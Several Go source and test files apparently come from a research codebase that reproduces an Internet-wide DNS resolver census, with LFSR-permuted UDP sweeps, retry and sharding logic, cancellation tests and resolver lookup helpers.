func (r Responder) MisSourced() bool { return r.Addr != r.Source }

// SweepResult aggregates one Internet-wide scan.
type SweepResult struct {
	// Probed is the number of targets probed (after blacklisting).
	Probed uint64
	// Responders lists every answering host, by target address.
	Responders []Responder
	// ByRCode counts responders per status code (Figure 1 series).
	ByRCode map[dnswire.RCode]int
}

// Total returns the count of responding hosts.
func (r *SweepResult) Total() int { return len(r.Responders) }

// NOERROR returns the addresses of resolvers that answered NOERROR — the
// population every follow-up experiment starts from. The result is sized
// exactly in one pass before filling, since at the 27M-responder scale of
// §2.2 append-doubling would copy the slice ~25 times.
func (r *SweepResult) NOERROR() []uint32 {
	n := 0
	for _, resp := range r.Responders {
		if resp.RCode == dnswire.RCodeNoError {
			n++
		}
	}
	if n == 0 {
		return nil
	}
	out := make([]uint32, 0, n)
	for _, resp := range r.Responders {
		if resp.RCode == dnswire.RCodeNoError {
			out = append(out, resp.Addr)
		}
	}
	return out
}

// MisSourcedCount counts responders replying from foreign addresses.
func (r *SweepResult) MisSourcedCount() int {
	n := 0
	for _, resp := range r.Responders {
		if resp.MisSourced() {
			n++
		}
	}
	return n
}

// cachePrefix derives the per-target random label that defeats caching
// (§2.2), written into a fixed-size array so the send path never converts
// through a string.
//
//lint:hotpath per-probe / per-response sweep path
func cachePrefix(u uint32) [5]byte { return cachePrefixN(u, 0) }

// cachePrefixN salts the anti-caching label with the retry attempt:
// attempt 0 is byte-identical to the original census probe, while each
// retransmission round carries a fresh label — a genuinely new packet
// that redraws its per-packet loss fate (the target decode ignores the
// prefix, so attribution is unaffected).
//
//lint:hotpath per-probe / per-response sweep path
func cachePrefixN(u uint32, attempt int) [5]byte {
	v := uint16((uint64(u)*2654435761 + uint64(attempt)*0x9E3779B9) >> 8)
	const hexdigits = "0123456789abcdef"
	return [5]byte{'r', hexdigits[v>>12], hexdigits[v>>8&0xF], hexdigits[v>>4&0xF], hexdigits[v&0xF]}
}

// sweepCollector accumulates sweep responses in a sharded map keyed by
// target address. Its receive method is the hot receiver callback: one
// pooled wire view, no Message, no allocation at steady state.
type sweepCollector struct {
	base      string // canonical scan base the qname must end in
	responses *shardedMap[Responder]
	recv      *metrics.Counter // valid sweep responses seen (nil = metrics off)
}

func newSweepCollector(base string, hint int) *sweepCollector {
	return &sweepCollector{
		base:      dnswire.CanonicalName(base),
		responses: newShardedMap[Responder](hint),
	}
}

// receive handles one response datagram. First response per target wins,
// as with the old single-map collector.
//
//lint:hotpath per-probe / per-response sweep path
func (st *sweepCollector) receive(src netip4, srcPort, dstPort uint16, payload []byte) {
	v := dnswire.GetView()
	defer dnswire.PutView(v)
	if err := v.Reset(payload); err != nil || !v.QR() || v.QDCount() == 0 {
		return
	}
	target, ok := dnswire.DecodeTargetQNameU32(v.QName(), st.base)
	if !ok {
		return
	}
	st.recv.Inc()
	st.responses.InsertOnce(target, Responder{
		Addr:     target,
		Source:   addrU32(src),
		RCode:    v.RCode(),
		Answered: v.HasAnswerA(),
	})
}

// Sweep probes every address of a 2^order space once, in LFSR-permuted
// order, skipping the blacklist. It is the ctx-less wrapper over
// SweepContext.
func (s *Scanner) Sweep(order uint, seed uint32, bl *lfsr.Blacklist) (*SweepResult, error) {
	return s.SweepContext(bgCtx, order, seed, bl)
}

// SweepContext probes every address of a 2^order space once, in
// LFSR-permuted order, skipping the blacklist. Each probe is a DNS A
// query for prefix.hex-ip.scanbase, so responses are attributed to the
// probed target regardless of their source address. Targets stream from
// the generator straight to the sender workers — the permutation is
// never materialized.
//
// Cancellation is honored between send batches and during the settle
// wait. A cancelled sweep returns ctx.Err() together with a consistent
// partial result: every response collected before the abort is present,
// sorted, and counted, so callers that tolerate partial censuses (e.g. a
// checkpointing orchestrator) can keep it.
func (s *Scanner) SweepContext(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist) (*SweepResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	hint := int(uint64(1) << order / 64)
	st := newSweepCollector(domains.ScanBase, hint)
	st.recv = s.m.sweepRecv
	s.tr.SetReceiver(st.receive)
	baseWire, err := dnswire.EncodeNameWire(st.base)
	if err != nil {
		return nil, err
	}

	var probed uint64
	var scanErr error
	if m := s.opts.Shards; m > 1 {
		probed, scanErr = s.sweepSharded(ctx, order, seed, bl, baseWire, st, m)
	} else {
		probed, scanErr = s.sweepSingle(ctx, order, seed, bl, baseWire, st)
	}
	return s.collectSweep(st, probed), scanErr
}

// sweepSingle is the unsharded sweep body: one shared generator drained
// by the worker pool, then the settle barrier and retry rounds.
//
// A census sends exactly one probe per target: retransmitting to the
// silent majority (non-resolvers) would double the scan for a
// fraction-of-a-percent gain. Loss is accounted for by the
// secondary-vantage verification scan instead (§2.2).
//
// Probe construction is the hot path: queries are written label by label
// into pooled buffers without a name or Message allocation, and batched
// into one SendBatch per generator pull when the transport supports it.
// Transports must not retain payloads after Send/SendBatch returns.
func (s *Scanner) sweepSingle(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist, baseWire []byte, st *sweepCollector) (uint64, error) {
	gen, err := lfsr.NewTargetGenerator(order, seed, bl)
	if err != nil {
		return 0, err
	}
	var probed uint64
	var scanErr error
	if bs, ok := s.tr.(wildnet.BatchSender); ok {
		probed, scanErr = s.streamAllBatched(ctx, gen, bs, censusBuild(baseWire), nil,
			func(n int) { s.m.sweepSent.Add(uint64(n)) })
	} else {
		probed, scanErr = s.streamAll(ctx, gen, s.censusSend(ctx, baseWire))
	}
	if settleErr := s.settle(ctx); scanErr == nil {
		scanErr = settleErr
	}
	if scanErr == nil && s.opts.SweepRetries > 0 {
		newGen := func() (*lfsr.TargetGenerator, error) { return lfsr.NewTargetGenerator(order, seed, bl) }
		scanErr = s.sweepRetryRounds(ctx, newGen, baseWire, st, s.opts.RetryBudget, false)
	}
	return probed, scanErr
}

// censusBuild returns the batched payload builder for census probes —
// byte-identical to the per-probe path's query, appended into the batch
// arena instead of a scratch buffer.
func censusBuild(baseWire []byte) func(u uint32, buf []byte) []byte {
	return templateBuild(baseWire, 0)
}

// censusSend returns the per-probe census sender for transports without
// batch support.
func (s *Scanner) censusSend(ctx context.Context, baseWire []byte) func(u uint32, scratch *[]byte) {
	return func(u uint32, scratch *[]byte) {
		prefix := cachePrefix(u)
		wire := dnswire.AppendTargetQuery((*scratch)[:0], uint16(u)^uint16(u>>16),
			prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
		s.m.sweepSent.Inc()
		//lint:allow errdrop sweep send failures are modeled packet loss
		s.tr.Send(ctx, lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
		*scratch = wire[:0]
	}
}

// collectSweep freezes the collector into the sorted result.
func (s *Scanner) collectSweep(st *sweepCollector, probed uint64) *SweepResult {
	res := &SweepResult{
		Probed:     probed,
		ByRCode:    make(map[dnswire.RCode]int),
		Responders: make([]Responder, 0, st.responses.Len()),
	}
	st.responses.Collect(func(_ uint32, r Responder) {
		res.Responders = append(res.Responders, r)
		res.ByRCode[r.RCode]++
	})
	// Shard maps iterate in unspecified order; sort so the responder list
	// (and everything derived from it, e.g. NOERROR ordering) is
	// reproducible.
	sort.Slice(res.Responders, func(i, j int) bool {
		return res.Responders[i].Addr < res.Responders[j].Addr
	})
	return res
}

// sweepSharded runs the sweep as m concurrent shard workers. Shard i owns
// every m-th slot of the target permutation (lfsr.ShardedGenerator), with
// its own generator, settle barrier, and retry state; all shards insert
// into the one shared collector, which is safe and order-independent
// because their target sets are disjoint and first-response-wins is
// per-target. Every probe a shard sends is bit-identical to the probe the
// unsharded sweep sends to the same target (same ports, same payload), so
// the modeled per-packet loss draws — and therefore the responder set —
// cannot depend on m.
//
// The retransmission budget is split across shards (shardBudget), which
// is the one place a bound budget can pick different retransmission
// targets than an unsharded run; an unlimited budget (the default) is
// exactly equivalent.
func (s *Scanner) sweepSharded(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist, baseWire []byte, st *sweepCollector, m int) (uint64, error) {
	if bl != nil {
		// The shard workers read the blacklist concurrently; the lazy
		// sort-and-merge must happen before they start.
		bl.Freeze()
	}
	bs, batched := s.tr.(wildnet.BatchSender)
	build := censusBuild(baseWire)
	sents := make([]uint64, m)
	errs := make([]error, m)
	var wg sync.WaitGroup
	for i := 0; i < m; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			gen, err := lfsr.ShardedGenerator(order, seed, bl, i, m)
			if err != nil {
				errs[i] = err
				return
			}
			var sent uint64
			if batched {
				sent, err = s.batchWorker(ctx, gen, nil, bs, build, nil,
					func(n int) { s.m.sweepSent.Add(uint64(n)) })
			} else {
				sent, err = s.streamOne(ctx, gen, s.censusSend(ctx, baseWire))
			}
			sents[i] = sent
			if settleErr := s.settle(ctx); err == nil {
				err = settleErr
			}
			if err == nil && s.opts.SweepRetries > 0 {
				newGen := func() (*lfsr.TargetGenerator, error) {
					return lfsr.ShardedGenerator(order, seed, bl, i, m)
				}
				err = s.sweepRetryRounds(ctx, newGen, baseWire, st, shardBudget(s.opts.RetryBudget, i, m), true)
			}
			errs[i] = err
		}(i)
	}
	wg.Wait()
	var probed uint64
	for _, n := range sents {
		probed += n
	}
	s.publishShardGauges(order, seed, bl, st, m, sents)
	for _, e := range errs {
		if e != nil {
			return probed, e
		}
	}
	return probed, nil
}

// shardBudget splits a retransmission budget across m shards: shard i
// gets total/m, plus one of the first total%m remainder units, so the
// shares sum exactly to the budget.
func shardBudget(total, i, m int) int {
	if total <= 0 {
		return 0
	}
	share := total / m
	if i < total%m {
		share++
	}
	return share
}

// publishShardGauges records the per-shard census accounting:
// scan.shard.<i>.sent is the number of census probes shard i dispatched,
// scan.shard.<i>.recv the number of responding targets shard i owns.
// Ownership is recovered after the fact by replaying the raw register
// walk once (slot position mod m, exactly the leapfrog split), so the
// hot receive path stays untouched. Both gauges are deterministic.
func (s *Scanner) publishShardGauges(order uint, seed uint32, bl *lfsr.Blacklist, st *sweepCollector, m int, sents []uint64) {
	if s.opts.Metrics == nil {
		return
	}
	for i, n := range sents {
		s.opts.Metrics.Gauge("scan.shard." + strconv.Itoa(i) + ".sent").Set(int64(n))
	}
	reg, err := lfsr.New(order, seed)
	if err != nil {
		return
	}
	counts := make([]int64, m)
	period := reg.Period()
	for pos := uint64(0); pos < period; pos++ {
		u := reg.Next()
		if bl != nil && bl.ContainsU32(u) {
			continue
		}
		if _, ok := st.responses.Get(u); ok {
			counts[pos%uint64(m)]++
		}
	}
	for i, c := range counts {
		s.opts.Metrics.Gauge("scan.shard." + strconv.Itoa(i) + ".recv").Set(c)
	}
}

// SweepShard probes only shard i of m of the sweep permutation; it is the
// ctx-less wrapper over SweepShardContext.
func (s *Scanner) SweepShard(order uint, seed uint32, bl *lfsr.Blacklist, shard, of int) (*SweepResult, error) {
	return s.SweepShardContext(bgCtx, order, seed, bl, shard, of)
}

// SweepShardContext probes shard `shard` of `of` of a 2^order sweep: the
// targets lfsr.ShardedGenerator(order, seed, bl, shard, of) yields, i.e.
// every of-th slot of the full permutation. Separate processes can each
// run one shard (goingwild -shard i/M) and cmd/wildmerge recombines the
// per-shard results into the unsharded report. The worker pool, retry
// rounds (with this shard's budget share), and batching all apply within
// the shard; the result holds only this shard's probes and responders.
func (s *Scanner) SweepShardContext(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist, shard, of int) (*SweepResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	gen, err := lfsr.ShardedGenerator(order, seed, bl, shard, of)
	if err != nil {
		return nil, err
	}
	hint := int(uint64(1) << order / 64 / uint64(of))
	st := newSweepCollector(domains.ScanBase, hint)
	st.recv = s.m.sweepRecv
	s.tr.SetReceiver(st.receive)
	baseWire, err := dnswire.EncodeNameWire(st.base)
	if err != nil {
		return nil, err
	}
	var probed uint64
	var scanErr error
	if bs, ok := s.tr.(wildnet.BatchSender); ok {
		probed, scanErr = s.streamAllBatched(ctx, gen, bs, censusBuild(baseWire), nil,
			func(n int) { s.m.sweepSent.Add(uint64(n)) })
	} else {
		probed, scanErr = s.streamAll(ctx, gen, s.censusSend(ctx, baseWire))
	}
	if settleErr := s.settle(ctx); scanErr == nil {
		scanErr = settleErr
	}
	if scanErr == nil && s.opts.SweepRetries > 0 {
		newGen := func() (*lfsr.TargetGenerator, error) {
			return lfsr.ShardedGenerator(order, seed, bl, shard, of)
		}
		scanErr = s.sweepRetryRounds(ctx, newGen, baseWire, st, shardBudget(s.opts.RetryBudget, shard, of), false)
	}
	return s.collectSweep(st, probed), scanErr
}

// sweepRetryRounds retransmits toward the sweep's non-responders
// (Options.SweepRetries rounds), honoring the backoff schedule, the
// retransmission budget, and the stage deadline. Each round walks the
// generator newGen rebuilds (the full permutation, or one shard of it)
// and re-probes only still-silent targets with an attempt-salted
// anti-caching prefix, so every retransmission is a new packet with a
// fresh loss draw. The answered set at each round's start is fixed by
// the settle barrier — and, under sharding, by shard-disjoint target
// ownership — so the retransmitted target set is schedule-independent;
// Probed stays the census count (retries are recovery traffic, not
// coverage).
//
// budget is this caller's retransmission allowance (the whole
// Options.RetryBudget, or one shard's share); shardWorker marks a caller
// that is already one goroutine of a shard pool, which must not spawn a
// nested worker pool over its private generator.
func (s *Scanner) sweepRetryRounds(ctx context.Context, newGen func() (*lfsr.TargetGenerator, error), baseWire []byte, st *sweepCollector, budget int, shardWorker bool) error {
	guard := s.newDeadlineGuard()
	budgeted := s.opts.RetryBudget > 0
	bs, batched := s.tr.(wildnet.BatchSender)
	miss := func(u uint32) bool {
		_, answered := st.responses.Get(u)
		return !answered
	}
	for attempt := 1; attempt <= s.opts.SweepRetries; attempt++ {
		// Checkpoint between retry rounds.
		if err := ctx.Err(); err != nil {
			return err
		}
		if guard.expired() {
			return nil
		}
		if budgeted && budget <= 0 {
			return nil
		}
		if err := s.backoffWait(ctx, attempt); err != nil {
			return err
		}
		gen, err := newGen()
		if err != nil {
			return err
		}
		s.m.retryRounds.Inc()
		resend := func(u uint32, scratch *[]byte) {
			if !miss(u) {
				return
			}
			prefix := cachePrefixN(u, attempt)
			wire := dnswire.AppendTargetQuery((*scratch)[:0], uint16(u)^uint16(u>>16),
				prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
			s.m.sweepSent.Inc()
			s.m.retrySpend.Inc()
			//lint:allow errdrop sweep retransmission failures are modeled packet loss
			s.tr.Send(ctx, lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
			*scratch = wire[:0]
		}
		switch {
		case budgeted:
			// A bound budget needs a deterministic target set: materialize
			// the first `budget` misses in permutation order, then send
			// serially (the budgeted path is small by construction).
			targets := make([]uint32, 0, budget)
			for len(targets) < budget {
				u, ok := gen.NextU32()
				if !ok {
					break
				}
				if miss(u) {
					targets = append(targets, u)
				}
			}
			budget -= len(targets)
			scratch := sweepBufPool.Get().(*[]byte)
			cancellable := ctx.Done() != nil
			for i, u := range targets {
				if cancellable && i%streamBatch == 0 && ctx.Err() != nil {
					break
				}
				s.rate.wait(ctx)
				resend(u, scratch)
			}
			sweepBufPool.Put(scratch)
		case batched:
			build := templateBuild(baseWire, attempt)
			onFlush := func(n int) {
				s.m.sweepSent.Add(uint64(n))
				s.m.retrySpend.Add(uint64(n))
			}
			if shardWorker {
				if _, err := s.batchWorker(ctx, gen, nil, bs, build, miss, onFlush); err != nil {
					return err
				}
			} else if _, err := s.streamAllBatched(ctx, gen, bs, build, miss, onFlush); err != nil {
				return err
			}
		case shardWorker:
			if _, err := s.streamOne(ctx, gen, resend); err != nil {
				return err
			}
		default:
			if _, err := s.streamAll(ctx, gen, resend); err != nil {
				return err
			}
		}
		if err := s.settle(ctx); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// Probe sends a single query toward one resolver; it is the ctx-less
// wrapper over ProbeContext.
func (s *Scanner) Probe(addr uint32, name string, typ dnswire.Type, class dnswire.Class) []*dnswire.Message {
	out, _ := s.ProbeContext(bgCtx, addr, name, typ, class)
	return out
}

// ProbeContext sends a single query toward one resolver and returns all
// responses that arrive before the settle deadline (the GFW study needs
// to observe response races, §4.2). A dead context cuts the settle wait
// short and surfaces as ctx.Err() alongside whatever arrived.
func (s *Scanner) ProbeContext(ctx context.Context, addr uint32, name string, typ dnswire.Type, class dnswire.Class) ([]*dnswire.Message, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	var mu sync.Mutex
	var out []*dnswire.Message
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		if m, err := dnswire.Unpack(payload); err == nil && m.Header.QR {
			s.m.probeRecv.Inc()
			mu.Lock()
			out = append(out, m)
			mu.Unlock()
		}
	})
	wire := packQuery(0x5157, name, typ, class)
	s.m.probeSent.Inc()
	//lint:allow errdrop single-probe send failures are modeled packet loss
	s.tr.Send(ctx, lfsr.U32ToAddr(addr), 53, s.opts.BasePort, wire)
	err := s.settle(ctx)
	mu.Lock()
	defer mu.Unlock()
	return out, err
}
