package scanner

import (
	"context"
	"errors"
	"sync/atomic"
	"testing"
	"time"

	"goingwild/internal/dnswire"
)

// cancelAfterTransport wraps a transport and cancels the given context
// after n sends, modeling an operator hitting ^C mid-sweep.
type cancelAfterTransport struct {
	inner  Transport
	cancel context.CancelFunc
	after  int64
	sent   atomic.Int64
}

func (c *cancelAfterTransport) Send(ctx context.Context, dst netip4, dstPort, srcPort uint16, payload []byte) error {
	if c.sent.Add(1) == c.after {
		c.cancel()
	}
	return c.inner.Send(ctx, dst, dstPort, srcPort, payload)
}

func (c *cancelAfterTransport) SetReceiver(f func(src netip4, srcPort, dstPort uint16, payload []byte)) {
	c.inner.SetReceiver(f)
}

func (c *cancelAfterTransport) Close() error { return c.inner.Close() }

// TestSweepCancelMidScan checks the satellite contract: cancelling
// mid-sweep returns ctx.Err() together with a consistent, partially
// filled collector — every response gathered before the abort is
// present, sorted, and counted.
func TestSweepCancelMidScan(t *testing.T) {
	w, mem := testWorld(t, 16)
	defer mem.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	const cancelAfter = 1000
	tr := &cancelAfterTransport{inner: mem, cancel: cancel, after: cancelAfter}
	s := New(tr, Options{Workers: 4, SettleDelay: NoSettle})

	res, err := s.SweepContext(ctx, 16, 31, w.ScanBlacklist())
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled sweep returned err=%v, want context.Canceled", err)
	}
	if res == nil {
		t.Fatal("cancelled sweep returned nil result; want the partial census")
	}
	// Workers stop at their next batch boundary: at most one in-flight
	// batch per worker completes beyond the cancellation point.
	maxProbes := uint64(cancelAfter + 4*streamBatch)
	if res.Probed == 0 || res.Probed > maxProbes {
		t.Errorf("cancelled sweep probed %d targets, want (0, %d]", res.Probed, maxProbes)
	}
	// The partial collector must be internally consistent: sorted,
	// duplicate-free, with rcode counts matching the responder list.
	byRCode := map[dnswire.RCode]int{}
	for i, r := range res.Responders {
		if i > 0 && res.Responders[i-1].Addr >= r.Addr {
			t.Fatalf("responders unsorted at %d: %#x >= %#x", i, res.Responders[i-1].Addr, r.Addr)
		}
		byRCode[r.RCode]++
	}
	for rc, n := range byRCode {
		if res.ByRCode[rc] != n {
			t.Errorf("ByRCode[%v] = %d, want %d", rc, res.ByRCode[rc], n)
		}
	}
	if len(res.ByRCode) != len(byRCode) {
		t.Errorf("ByRCode has %d codes, responders show %d", len(res.ByRCode), len(byRCode))
	}
}

// TestSweepCancelBounded is the acceptance assertion: a cancelled
// order-20 sweep returns within one send batch per worker plus one
// settle tick, measured on the fake clock.
func TestSweepCancelBounded(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	const cancelAfter = 4 * streamBatch
	tr := &cancelAfterTransport{inner: &nullTransport{}, cancel: cancel, after: cancelAfter}
	fc := newFakeClock()
	const settle = 50 * time.Millisecond
	s := New(tr, Options{Workers: 4, SettleDelay: settle, Clock: fc})

	start := fc.Now()
	res, err := s.SweepContext(ctx, 20, 31, nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled sweep returned err=%v, want context.Canceled", err)
	}
	// One in-flight batch of streamBatch targets per worker may finish
	// after the cancel lands; nothing more of the 2^20 space is probed.
	maxProbes := uint64(cancelAfter + 4*streamBatch)
	if res.Probed > maxProbes {
		t.Errorf("cancelled order-20 sweep probed %d targets, want <= %d", res.Probed, maxProbes)
	}
	// The settle wait must not outlive the cancellation: at most one
	// settle tick of virtual time elapses after the abort.
	if got := fc.Now().Sub(start); got > settle {
		t.Errorf("cancelled sweep consumed %v of virtual time, want <= one settle tick (%v)", got, settle)
	}
}

// blockingClock models a settle wait long enough that only context
// cancellation can end it: Sleep blocks until released, and the
// ContextSleeper implementation waits for the context. A test failing
// this contract would hang on Sleep rather than return.
type blockingClock struct {
	slept chan struct{}
}

func (b *blockingClock) Now() time.Time { return time.Unix(0, 0) }

func (b *blockingClock) Sleep(d time.Duration) { <-b.slept }

func (b *blockingClock) SleepContext(ctx context.Context, d time.Duration) error {
	select {
	case <-b.slept:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// TestSettleDeadlineReturnsPromptly checks that a deadline landing
// during the settle wait ends it promptly instead of sleeping out the
// full SettleDelay.
func TestSettleDeadlineReturnsPromptly(t *testing.T) {
	bc := &blockingClock{slept: make(chan struct{})}
	s := New(&nullTransport{}, Options{SettleDelay: time.Hour, Clock: bc})
	ctx, cancel := context.WithCancel(context.Background())

	done := make(chan error, 1)
	go func() { done <- s.settle(ctx) }()
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("settle returned %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("settle did not return after cancellation; it is sleeping out the full SettleDelay")
	}

	// An already-expired deadline skips the wait entirely.
	dead, cancel2 := context.WithDeadline(context.Background(), time.Unix(0, 0))
	defer cancel2()
	if err := s.settle(dead); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("settle under expired deadline returned %v, want context.DeadlineExceeded", err)
	}
}

// TestScanDomainsCancelBetweenRounds checks the retry-round checkpoint:
// a context cancelled after the first name round stops the scan with the
// measured rows intact.
func TestScanDomainsCancelBetweenRounds(t *testing.T) {
	w, mem := testWorld(t, 16)
	defer mem.Close()
	s := New(mem, Options{Workers: 4, SettleDelay: NoSettle})
	sweep, err := s.Sweep(16, 31, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	if len(resolvers) == 0 {
		t.Fatal("no resolvers to scan")
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel() // dead before the first checkpoint
	res, err := s.ScanDomainsContext(ctx, resolvers, []string{"chase.com", "okcupid.com"})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled domain scan returned err=%v, want context.Canceled", err)
	}
	if res == nil || len(res.Answers) != 2 {
		t.Fatal("cancelled domain scan must return the allocated (empty) result rows")
	}
	for ni := range res.Answers {
		for ri := range res.Answers[ni] {
			if res.Answers[ni][ri].Answered() {
				t.Fatalf("row %d answer %d recorded despite pre-cancelled context", ni, ri)
			}
		}
	}
}

// TestSweepContextUncancelledMatchesWrapper pins the compatibility
// contract: threading a live context through SweepContext yields exactly
// the result of the ctx-less wrapper.
func TestSweepContextUncancelledMatchesWrapper(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	a, err := s.Sweep(16, 31, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	b, err := s.SweepContext(context.Background(), 16, 31, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	if a.Probed != b.Probed || len(a.Responders) != len(b.Responders) {
		t.Fatalf("ctx variant diverged: probed %d/%d, responders %d/%d",
			a.Probed, b.Probed, len(a.Responders), len(b.Responders))
	}
	for i := range a.Responders {
		if a.Responders[i] != b.Responders[i] {
			t.Fatalf("responder %d differs: %+v vs %+v", i, a.Responders[i], b.Responders[i])
		}
	}
}
