package scanner

import (
	"context"
	"fmt"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
)

// ProbeAlive re-probes an explicit address list; it is the ctx-less
// wrapper over ProbeAliveContext.
func (s *Scanner) ProbeAlive(addrs []uint32) map[uint32]bool {
	alive, _ := s.ProbeAliveContext(bgCtx, addrs)
	return alive
}

// ProbeAliveContext re-probes an explicit address list (the §2.5 churn
// study tracks the week-0 cohort this way) and returns the set that
// responded with any DNS answer. Cancellation checkpoints sit between
// retry rounds; a cancelled probe returns the partial alive set with
// ctx.Err().
func (s *Scanner) ProbeAliveContext(ctx context.Context, addrs []uint32) (map[uint32]bool, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	collected := newShardedMap[bool](len(addrs) / 4)
	base := dnswire.CanonicalName(domains.ScanBase)
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		v := dnswire.GetView()
		defer dnswire.PutView(v)
		if err := v.Reset(payload); err != nil || !v.QR() || v.QDCount() == 0 {
			return
		}
		target, ok := dnswire.DecodeTargetQNameU32(v.QName(), base)
		if !ok {
			return
		}
		s.m.aliveRecv.Inc()
		collected.InsertOnce(target, true)
	})
	// Shared retransmission loop: identical payload per attempt, misses
	// recomputed between settle-barriered rounds.
	s.retryRounds(ctx, s.opts.Retries, len(addrs),
		func(i, _ int) {
			u := addrs[i]
			name := dnswire.EncodeTargetQName(fmt.Sprintf("c%x", u&0xFFF), lfsr.U32ToAddr(u), domains.ScanBase)
			wire := packQuery(uint16(u), name, dnswire.TypeA, dnswire.ClassIN)
			s.m.aliveSent.Inc()
			//lint:allow errdrop alive-probe send failures are modeled packet loss
			s.tr.Send(ctx, lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
		},
		func(i int) bool {
			_, ok := collected.Get(addrs[i])
			return !ok
		})
	alive := make(map[uint32]bool, collected.Len())
	collected.Collect(func(u uint32, _ bool) {
		alive[u] = true
	})
	return alive, ctx.Err()
}

// LookupPTR resolves the reverse name of target through the resolver at
// via (the churn study aggregates rDNS records of disappeared cohort
// members through the trusted resolvers, §2.5).
func (s *Scanner) LookupPTR(via, target uint32) (string, bool) {
	if s.tr == nil {
		return "", false
	}
	msgs := s.Probe(via, fmt.Sprintf("%d.%d.%d.%d.in-addr.arpa",
		target&0xFF, target>>8&0xFF, target>>16&0xFF, target>>24), dnswire.TypePTR, dnswire.ClassIN)
	for _, m := range msgs {
		for _, rr := range m.Answers {
			if ptr, ok := rr.Data.(dnswire.PTR); ok {
				return ptr.Target, true
			}
		}
	}
	return "", false
}

// LookupA resolves an A record through the resolver at via, returning the
// answer addresses (used by the prefilter's rDNS round-trip rule).
func (s *Scanner) LookupA(via uint32, name string) ([]uint32, dnswire.RCode, bool) {
	if s.tr == nil {
		return nil, 0, false
	}
	msgs := s.Probe(via, name, dnswire.TypeA, dnswire.ClassIN)
	for _, m := range msgs {
		addrs := m.AnswerAddrs()
		out := make([]uint32, len(addrs))
		for i, a := range addrs {
			out[i] = lfsr.AddrToU32(a)
		}
		return out, m.Header.RCode, true
	}
	return nil, 0, false
}
