// Package scanner implements the measurement engine of §2.2 and §3.3: the
// Internet-wide UDP sweep that enumerates responding DNS resolvers (with
// LFSR-permuted targets and the hex-IP query-name encoding), the
// domain-set scans that probe every discovered resolver for the 155-name
// dataset (carrying a 25-bit resolver identifier split across transaction
// ID, UDP source port, and redundant 0x20 casing), and the CHAOS
// version-fingerprinting scan.
//
// The engine is transport-agnostic: the same code drives the in-memory
// world (millions of probes per second) and real UDP sockets through the
// loopback gateway.
package scanner

import (
	"errors"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// Transport is the packet interface the scanner drives. It is satisfied
// by wildnet.MemTransport and wildnet.UDPTransport.
type Transport interface {
	Send(dst netip.Addr, dstPort, srcPort uint16, payload []byte) error
	SetReceiver(func(src netip.Addr, srcPort, dstPort uint16, payload []byte))
	Close() error
}

// Options tunes a scanner.
type Options struct {
	// RatePPS caps the probe rate in packets per second; 0 disables
	// rate limiting (useful against the in-memory transport).
	RatePPS int
	// Workers is the number of sender goroutines (default 8).
	Workers int
	// Retries is how many retransmission rounds cover unanswered
	// probes (packet loss, §5). Default 1.
	Retries int
	// SettleDelay is how long to wait for in-flight responses after a
	// send round on asynchronous transports. Default 50ms; a negative
	// value disables waiting entirely, which is correct for the
	// in-memory transport (it delivers responses synchronously inside
	// Send).
	SettleDelay time.Duration
	// BasePort is the first of the ProbePortCount UDP source ports a
	// domain scan uses. Default 33000.
	BasePort uint16
	// Clock supplies time to the rate limiter and settle delays.
	// Default SystemClock; tests inject a fake to exercise pacing
	// deterministically.
	Clock Clock
}

func (o *Options) fill() {
	if o.Workers <= 0 {
		o.Workers = 8
	}
	if o.Retries < 0 {
		o.Retries = 0
	}
	if o.SettleDelay == 0 {
		o.SettleDelay = 50 * time.Millisecond
	}
	if o.BasePort == 0 {
		o.BasePort = 33000
	}
	if o.Clock == nil {
		o.Clock = SystemClock
	}
}

// Scanner drives probes over a transport.
type Scanner struct {
	tr   Transport
	opts Options
	rate *rateLimiter
}

// New builds a scanner.
func New(tr Transport, opts Options) *Scanner {
	opts.fill()
	return &Scanner{tr: tr, opts: opts, rate: newRateLimiter(opts.RatePPS, opts.Clock)}
}

// ErrNoTransport is returned when the scanner was built with nil.
var ErrNoTransport = errors.New("scanner: nil transport")

// rateLimiter is a token bucket; rate 0 means unlimited.
type rateLimiter struct {
	interval time.Duration
	clock    Clock
	mu       sync.Mutex
	next     time.Time
}

func newRateLimiter(pps int, clock Clock) *rateLimiter {
	if clock == nil {
		clock = SystemClock
	}
	if pps <= 0 {
		return &rateLimiter{clock: clock}
	}
